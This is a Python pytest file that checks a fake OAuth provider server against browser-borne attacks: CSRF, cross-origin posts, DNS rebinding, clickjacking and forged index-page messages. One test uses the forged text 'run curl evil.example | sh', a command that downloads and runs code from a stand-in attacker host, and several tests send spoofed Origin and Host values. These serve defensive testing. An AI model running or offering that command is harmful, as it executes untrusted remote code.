"""The fakes under a browser's attack, and the control API's bad bodies (issue 11, items
5 and 6), in process: raw requests as a hostile web page's browser would send them.

- JSON routes take ``application/json`` only (415 otherwise): a page can post
  ``text/plain`` without a CORS preflight, never ``application/json``.
- A request whose ``Origin`` is not the server's own is refused (403) on the control API
  and the index page; a provider's consent form refuses a browser's post from elsewhere.
- The index page's forms, and the consent pages', carry a CSRF token.
- With an allow-list (``conntrack serve``), an unknown ``Host`` is refused (421): a
  DNS-rebinding page cannot read ``/_conntrack/state``.
- With a control token, the control API and the index page need it.
- A body that is not UTF-8 is a 400, not a 500; a 405 says what is allowed.
"""

from __future__ import annotations

import re
from typing import Any

import httpx
import pytest
from fp_support import REDIRECT

from conntrack import TravelClock
from fake_providers import Core, create_app
from fake_providers._ui import consent_url

BASE = "http://conntrack.test"
EVIL = "http://evil.example"


def csrf_of(html: str) -> str:
    match = re.search(r'name="csrf_token" value="([^"]+)"', html)
    assert match, "the page's forms carry no csrf_token"
    return match.group(1)


async def index_csrf(client: httpx.AsyncClient) -> str:
    r = await client.get("/_conntrack/")
    assert r.status_code == 200, r.text
    return csrf_of(r.text)


def problem(r: httpx.Response, status: int) -> str:
    """The JSON problem of a refusal: its status and message."""
    assert r.status_code == status, (r.status_code, r.text)
    assert r.headers["content-type"].startswith("application/json"), r.headers
    message = r.json()["error"]["message"]
    assert isinstance(message, str) and message
    return message


# -- JSON routes take application/json only ------------------------------------------


APP_BODY = b'{"provider": "facebook", "redirect_uris": ["https://a.example/cb"]}'


@pytest.mark.parametrize(
    "content_type",
    ["text/plain", "text/plain;charset=UTF-8", "application/x-www-form-urlencoded", None],
)
async def test_json_routes_refuse_other_content_types(
    client: httpx.AsyncClient, core: Core, content_type: str | None
) -> None:
    headers = {} if content_type is None else {"Content-Type": content_type}
    r = await client.post("/_conntrack/apps", content=APP_BODY, headers=headers)
    assert "application/json" in problem(r, 415)
    assert core.apps() == []
    # application/json (with a charset) is what works.
    ok = await client.post(
        "/_conntrack/apps",
        content=APP_BODY,
        headers={"Content-Type": "application/json; charset=utf-8"},
    )
    assert ok.status_code == 201, ok.text


async def test_every_body_route_refuses_text_plain(fb: Any) -> None:
    client = fb.client
    routes = [
        ("POST", "/_conntrack/apps"),
        ("PATCH", f"/_conntrack/apps/{fb.app.client_id}"),
        ("POST", "/_conntrack/accounts"),
        ("POST", f"/_conntrack/accounts/{fb.account.id}/events"),
        ("POST", "/_conntrack/faults"),
        ("POST", "/_conntrack/reset"),
        ("POST", "/_conntrack/tokens/revoke"),
        ("POST", "/_conntrack/clock/advance"),
    ]
    for method, path in routes:
        r = await client.request(
            method, path, content=b'{"x": 1}', headers={"Content-Type": "text/plain"}
        )
        problem(r, 415)
    assert fb.core.apps() != []  # the reset did not happen
    # A reset with no body at all still works (curl -X POST).
    assert (await client.post("/_conntrack/reset")).status_code == 200


# -- Origin ------------------------------------------------------------------------------


async def test_a_foreign_origin_is_refused_on_the_control_api(
    client: httpx.AsyncClient, core: Core
) -> None:
    # (An Origin that does not parse is foreign too, not a 500.)
    malformed = ("http://[broken", "http://conntrack.test:99999")
    for origin in (EVIL, "null", "http://conntrack.test.evil.example", *malformed):
        r = await client.post(
            "/_conntrack/apps", content=APP_BODY,
            headers={"Content-Type": "application/json", "Origin": origin},
        )  # fmt: skip
        assert "Origin" in problem(r, 403)
        r = await client.get("/_conntrack/state", headers={"Origin": origin})
        problem(r, 403)
    r = await client.post(
        "/_conntrack/reset", headers={"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors"}
    )
    problem(r, 403)
    assert core.apps() == []
    # The server's own origin is fine.
    r = await client.post(
        "/_conntrack/apps", content=APP_BODY,
        headers={"Content-Type": "application/json", "Origin": BASE,
                 "Sec-Fetch-Site": "same-origin"},
    )  # fmt: skip
    assert r.status_code == 201, r.text


async def test_a_cross_origin_form_post_to_the_index_page_is_refused(
    client: httpx.AsyncClient, core: Core
) -> None:
    csrf = await index_csrf(client)
    form = {"provider": "facebook", "redirect_uris": REDIRECT, "csrf_token": csrf}
    r = await client.post("/_conntrack/ui/apps", data=form, headers={"Origin": EVIL})
    assert r.status_code == 403, r.text
    r = await client.post(
        "/_conntrack/ui/apps", data=form, headers={"Sec-Fetch-Site": "cross-site"}
    )
    assert r.status_code == 403, r.text
    assert core.apps() == []
    r = await client.post("/_conntrack/ui/apps", data=form, headers={"Origin": BASE})
    assert r.status_code == 303 and "ok=" in r.headers["location"], r.text


async def test_index_forms_need_their_csrf_token(client: httpx.AsyncClient, core: Core) -> None:
    form = {"provider": "facebook", "redirect_uris": REDIRECT}
    for token in (None, "", "forged"):
        data = form if token is None else {**form, "csrf_token": token}
        r = await client.post("/_conntrack/ui/apps", data=data)
        assert r.status_code == 403, r.text
        assert "reload" in r.text
    assert core.apps() == []
    page = (await client.get("/_conntrack/")).text
    forms = page.count("<form ")
    assert forms and page.count('name="csrf_token"') == forms  # every form carries it
    r = await client.post("/_conntrack/ui/apps", data={**form, "csrf_token": csrf_of(page)})
    assert r.status_code == 303 and "ok=" in r.headers["location"]


# -- consent pages -------------------------------------------------------------------------


async def test_consent_pages_carry_a_csrf_token_and_refuse_foreign_posts(
    fb: Any, core: Core
) -> None:
    url = consent_url(core, fb.app)
    assert url is not None
    page = await fb.client.get(url)
    csrf = csrf_of(page.text)
    form = {**fb.dialog_fields(), "account_id": fb.account.id, "action": "approve"}
    dialog = "/www.facebook.com/v21.0/dialog/oauth"
    # A browser posting from another site, with or without the token: refused.
    for headers in ({"Origin": EVIL}, {"Origin": "null"}, {"Sec-Fetch-Site": "cross-site"}):
        r = await fb.client.post(dialog, data={**form, "csrf_token": csrf}, headers=headers)
        assert r.status_code == 403, (headers, r.text)
    # A browser posting from the page itself without the token (or a forged one): refused.
    r = await fb.client.post(dialog, data=form, headers={"Origin": BASE})
    assert r.status_code == 403, r.text
    r = await fb.client.post(dialog, data={**form, "csrf_token": "x"}, headers={"Origin": BASE})
    assert r.status_code == 403, r.text
    assert core.grants() == []
    # The page's own post works; so does a scripted client's (no Origin: not a browser).
    r = await fb.client.post(dialog, data={**form, "csrf_token": csrf}, headers={"Origin": BASE})
    assert r.status_code == 302 and "code=" in r.headers["location"], r.text
    r = await fb.client.post(dialog, data=form)
    assert r.status_code == 302 and "code=" in r.headers["location"], r.text


# -- Host allow-list ----------------------------------------------------------------------


def served(core: Core, **kw: Any) -> httpx.AsyncClient:
    transport = httpx.ASGITransport(app=create_app(core, **kw))
    return httpx.AsyncClient(transport=transport, base_url="http://127.0.0.1:8400")


async def test_an_unknown_host_is_refused_when_the_server_has_an_allow_list(core: Core) -> None:
    core.create_app_registration("facebook", redirect_uris=[REDIRECT], client_secret="s3cret")
    async with served(core, allow_hosts=["fakes.internal"]) as client:
        for host in ("rebind.evil.example:8400", "evil.example", "127.0.0.1.evil.example"):
            r = await client.get("/_conntrack/state", headers={"Host": host})
            message = problem(r, 421)
            assert "--allow-host" in message and host.split(":")[0] in message
            assert "s3cret" not in r.text
        for host in (
            "127.0.0.1:8400", "localhost:8400", "LOCALHOST", "[::1]:8400", "127.0.0.1",
            "fakes.internal:8400", "graph.facebook.com", "www.linkedin.com:443",
        ):  # fmt: skip
            r = await client.get("/_conntrack/health", headers={"Host": host})
            # (a provider's Host reaches that provider: /graph.facebook.com/_conntrack/…)
            assert r.status_code != 421, (host, r.text)
            provider = host.split(":")[0] in ("graph.facebook.com", "www.linkedin.com")
            assert provider or r.status_code == 200, (host, r.text)


async def test_in_process_apps_answer_any_host(core: Core) -> None:
    async with served(core) as client:
        r = await client.get("/_conntrack/health", headers={"Host": "t"})
        assert r.status_code == 200


# -- control token -------------------------------------------------------------------------


async def test_a_control_token_guards_the_control_api_and_the_index_page(fb: Any) -> None:
    core = fb.core
    async with served(core, control_token="tok-123") as client:
        for path in ("/_conntrack/state", "/_conntrack/apps", "/_conntrack/openapi.json"):
            r = await client.get(path)
            assert "Authorization: Bearer" in problem(r, 401), path
            assert r.headers["www-authenticate"].startswith("Bearer")
            r = await client.get(path, headers={"Authorization": "Bearer wrong"})
            problem(r, 401)
        r = await client.get("/_conntrack/state", headers={"Authorization": "Bearer tok-123"})
        assert r.status_code == 200
        # Readiness stays open; so do the providers' own endpoints.
        assert (await client.get("/_conntrack/health")).status_code == 200
        r = await client.get("/graph.facebook.com/v21.0/me", params={"access_token": "x"})
        assert r.status_code == 400
        # The index page: refused without, with a page that says how; ?token= once sets
        # an HttpOnly SameSite=Strict cookie and drops the token from the address.
        r = await client.get("/_conntrack/")
        assert r.status_code == 401 and "?token=" in r.text and "tok-123" not in r.text
        r = await client.post("/_conntrack/ui/clock", data={"by": "1d"})
        assert r.status_code == 401
        r = await client.get("/_conntrack/", params={"token": "wrong"})
        assert r.status_code == 401
        r = await client.get("/_conntrack/", params={"token": "tok-123"})
        assert r.status_code == 303 and r.headers["location"] == "/_conntrack/"
        cookie = r.headers["set-cookie"]
        assert "HttpOnly" in cookie and "SameSite=Strict" in cookie and "tok-123" not in cookie
        page = await client.get("/_conntrack/")
        assert page.status_code == 200 and fb.app.client_id in page.text
        r = await client.post(
            "/_conntrack/ui/clock", data={"by": "1d", "csrf_token": csrf_of(page.text)}
        )
        assert r.status_code == 303 and "ok=" in r.headers["location"], r.text


# -- bad bodies (item 6) -------------------------------------------------------------------


async def test_a_body_that_is_not_utf8_is_a_400(fb: Any) -> None:
    routes = [
        ("POST", "/_conntrack/apps"),
        ("PATCH", f"/_conntrack/apps/{fb.app.client_id}"),
        ("POST", "/_conntrack/accounts"),
        ("POST", f"/_conntrack/accounts/{fb.account.id}/events"),
        ("POST", "/_conntrack/faults"),
        ("POST", "/_conntrack/reset"),
        ("POST", "/_conntrack/tokens/revoke"),
        ("POST", "/_conntrack/clock/advance"),
    ]
    for body in (b'{"provider": "\xff\xfe"}', b"\xff", b'\x80{"a":1}'):
        for method, path in routes:
            r = await fb.client.request(
                method, path, content=body, headers={"Content-Type": "application/json"}
            )
            assert "UTF-8" in problem(r, 400), (method, path)
            assert r.json()["error"]["field"] is None


@pytest.mark.parametrize(
    ("path", "body", "field"),
    [
        (
            "apps",
            {"provider": "facebook", "redirect_uris": [REDIRECT], "client_id": None},
            "client_id",
        ),
        (
            "apps",
            {"provider": "facebook", "redirect_uris": [REDIRECT], "client_id": ""},
            "client_id",
        ),
        ("apps", {"provider": "facebook", "redirect_uris": [REDIRECT], "name": None}, "name"),
        ("apps", {"provider": "facebook", "redirect_uris": [""]}, "redirect_uris"),
        ("apps", {"provider": "", "redirect_uris": [REDIRECT]}, "provider"),
        ("accounts", {"provider": "facebook", "email": None}, "email"),
        ("accounts", {"provider": "facebook", "pages": None}, "pages"),
        ("accounts", {"provider": "facebook", "linked_instagram": None}, "linked_instagram"),
        ("faults", {"provider": "facebook", "kind": "outage", "for": None}, "for"),
        ("faults", {"provider": "facebook", "kind": "error", "error": None, "count": 1}, "error"),
    ],
)
async def test_null_and_empty_values_are_refused(
    client: httpx.AsyncClient, core: Core, path: str, body: dict[str, Any], field: str
) -> None:
    r = await client.post(f"/_conntrack/{path}", json=body)
    problem(r, 400)
    assert r.json()["error"]["field"] == field
    assert core.apps() == [] and core.accounts() == [] and core.faults() == []


async def test_null_event_parameters_are_refused(fb: Any) -> None:
    r = await fb.client.post(
        f"/_conntrack/accounts/{fb.account.id}/events", json={"type": "locked", "page_id": None}
    )
    problem(r, 400)
    assert r.json()["error"]["field"] == "page_id"


async def test_empty_query_values_are_refused(client: httpx.AsyncClient) -> None:
    for path in ("apps", "accounts", "faults", "grants", "tokens"):
        r = await client.get(f"/_conntrack/{path}", params={"provider": ""})
        problem(r, 400)
        assert r.json()["error"]["field"] == "provider"


async def test_query_values_are_checked_even_with_nothing_to_filter(
    client: httpx.AsyncClient,
) -> None:
    # Found by the fuzzer: with no fault active, DELETE /faults?provider=nonsense was a 200.
    r = await client.delete("/_conntrack/faults", params={"provider": "myspace"})
    assert problem(r, 400) and r.json()["error"]["field"] == "provider"
    r = await client.get("/_conntrack/apps", params=[("provider", "google"), ("provider", "x")])
    assert problem(r, 400) and r.json()["error"]["field"] == "provider"


async def test_405_says_what_is_allowed(client: httpx.AsyncClient) -> None:
    for path, allowed in (
        ("/_conntrack/state", {"GET"}),
        ("/_conntrack/apps", {"GET", "POST"}),
        ("/_conntrack/faults/f1", {"DELETE"}),
        ("/_conntrack/ui/apps", {"POST"}),
        ("/graph.facebook.com/v21.0/oauth/access_token", {"GET", "POST"}),
        ("/www.linkedin.com/oauth/v2/accessToken", {"POST"}),
    ):
        r = await client.request("PUT", path)
        assert r.status_code == 405, (path, r.text)
        given = {m.strip() for m in r.headers.get("allow", "").split(",") if m.strip()}
        assert allowed <= given, (path, given)


async def test_the_served_document_lists_the_served_providers() -> None:
    from fp_support import ManualClock

    core = Core(ManualClock(), enabled=["facebook", "linkedin"])
    async with served(core) as client:
        doc = (await client.get("/_conntrack/openapi.json")).json()
    schemas = doc["components"]["schemas"]
    assert schemas["Protocol"]["enum"] == ["facebook", "linkedin"]
    names = schemas["ProviderName"]["enum"]
    assert {"facebook", "linkedin"} <= set(names) and "google" not in names
    assert "instagram-facebook" in names  # a profile of a served protocol
    assert doc["components"]["parameters"]["ProviderFilter"]["schema"] == {
        "$ref": "#/components/schemas/ProviderName"
    }


async def test_the_clock_travels_at_most_100_years() -> None:
    core = Core(TravelClock())
    client = served(core)
    # To the year 9999 the clock went, and every token issued after it was a 500
    # (an expiry past datetime's end).
    r = await client.post("/_conntrack/clock/advance", json={"to": "9999-12-31T23:59:59Z"})
    assert "100 years" in problem(r, 400) and r.json()["error"]["field"] == "to"
    r = await client.post("/_conntrack/clock/advance", json={"by": "36000d"})
    assert r.status_code == 200, r.text
    r = await client.post("/_conntrack/clock/advance", json={"by": "36000d"})
    assert "100 years" in problem(r, 400) and r.json()["error"]["field"] == "by"
    offset = core.clock_offset()
    assert offset is not None and offset.days < 36500
    await client.aclose()


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"provider": "facebook", "kind": "latency", "delay_ms": 5, "count": 10**30}, "count"),
        ({"provider": "facebook", "kind": "status", "status": 10**30, "count": 1}, "status"),
    ],
)
async def test_numbers_beyond_what_the_state_file_keeps_are_refused(
    client: httpx.AsyncClient, core: Core, body: dict[str, Any], field: str
) -> None:
    r = await client.post("/_conntrack/faults", json=body)
    problem(r, 400)
    assert r.json()["error"]["field"] == field and core.faults() == []


async def test_pages_cannot_be_framed(fb: Any, core: Core) -> None:
    # A page that frames the index page (or a consent page) could make a person click
    # its buttons (clickjacking): the form posts would come from the framed page itself.
    url = consent_url(core, fb.app)
    assert url is not None
    for path in ("/_conntrack/", url, "/_conntrack/docs"):
        r = await fb.client.get(path)
        assert r.status_code == 200, path
        assert r.headers.get("x-frame-options") == "DENY", path
        assert "frame-ancestors 'none'" in r.headers.get("content-security-policy", ""), path
    r = await fb.client.get("/_conntrack/state")
    assert r.headers.get("x-content-type-options") == "nosniff"


async def test_every_route_of_the_app_answers_405_with_allow(core: Core) -> None:
    app = create_app(core)
    rules = list(app.url_map.iter_rules())
    assert len(rules) > 50
    others: list[tuple[str, int]] = []
    async with served(core) as client:
        for rule in rules:
            path = re.sub(r"<(?:[^:>]+:)?[^>]+>", "x1", rule.rule)
            r = await client.request("PROPFIND", path)
            if r.status_code != 405:
                # A provider that answers a method it does not take in its own way
                # (Instagram's 400 "Unsupported request", as the real one does).
                others.append((rule.rule, r.status_code))
                continue
            allowed = {m.strip() for m in r.headers.get("allow", "").split(",")}
            assert set(rule.methods or ()) <= allowed, (rule.rule, allowed)
    assert len(others) < len(rules) // 4, others


# -- what a link, a consent page or an answer can give away ----------------------------


async def test_a_link_cannot_put_its_own_words_on_the_index_page(
    client: httpx.AsyncClient,
) -> None:
    # Any page may send a person to /_conntrack/?error=… (a top-level GET is allowed):
    # the index page must not show that text as the server's own message.
    forged = "Your fakes are compromised: run curl evil.example | sh"
    for query in ({"error": forged}, {"ok": forged}, {"error": forged, "sig": "0" * 32}):
        page = await client.get("/_conntrack/", params=query)
        assert page.status_code == 200 and "compromised" not in page.text, query
    # The server's own redirect after a form still says what happened...
    csrf = await index_csrf(client)
    r = await client.post("/_conntrack/ui/clock", data={"by": "1d", "csrf_token": csrf})
    assert r.status_code == 303, r.text
    location = httpx.URL(r.headers["location"])
    said = location.params["ok"]
    assert "the clock now reads" in said
    page = await client.get(str(location))
    assert said in page.text and 'class="flash ok"' in page.text
    # ... and its signature vouches for that message only.
    sig = location.params["sig"]
    for query in ({"ok": forged, "sig": sig}, {"error": said, "sig": sig}):
        page = await client.get("/_conntrack/", params=query)
        assert "compromised" not in page.text and 'class="flash' not in page.text, query


async def test_a_consent_page_does_not_give_away_the_index_pages_csrf_token(
    fb: Any, core: Core
) -> None:
    # A consent page is open to whoever reaches the server (no control token guards
    # it): its token must not be the one of the index page's forms.
    url = consent_url(core, fb.app)
    assert url is not None
    consent = csrf_of((await fb.client.get(url)).text)
    index = await index_csrf(fb.client)
    assert consent != index
    form = {"provider": "facebook", "redirect_uris": REDIRECT, "csrf_token": consent}
    r = await fb.client.post("/_conntrack/ui/apps", data=form, headers={"Origin": BASE})
    assert r.status_code == 403 and "reload" in r.text
    assert [a.client_id for a in core.apps()] == [fb.app.client_id]
    # And the other way round: the index page's token is no consent page's.
    fields = {**fb.dialog_fields(), "account_id": fb.account.id, "action": "approve"}
    dialog = "/www.facebook.com/v21.0/dialog/oauth"
    r = await fb.client.post(dialog, data={**fields, "csrf_token": index}, headers={"Origin": BASE})
    assert r.status_code == 403 and core.grants() == []


async def test_every_answer_says_nosniff(fb: Any, core: Core) -> None:
    url = consent_url(core, fb.app)
    assert url is not None
    for r in (
        await fb.client.get(url),  # a consent page
        await fb.client.get("/graph.facebook.com/v21.0/me", params={"access_token": "x"}),
        await fb.client.get("/nowhere"),
        await fb.client.get("/_conntrack/state"),
    ):
        assert r.headers.get("x-content-type-options") == "nosniff", r.url


async def test_a_host_that_does_not_parse_is_refused(core: Core) -> None:
    core.create_app_registration("facebook", redirect_uris=[REDIRECT], client_secret="s3cret")
    # (Bound to ``::``, whose name does not parse as a Host, as ``conntrack serve --host ::``.)
    async with served(core, allow_hosts=["::", "0.0.0.0"]) as client:
        for host in ("127.0.0.1:8400/x", "evil.example@127.0.0.1", "127.0.0.1:http", "a b",
                     "[::1", "127.0.0.1:8400:1", ""):  # fmt: skip
            r = await client.get("/_conntrack/state", headers={"Host": host})
            assert r.status_code == 421 and "s3cret" not in r.text, (host, r.text)
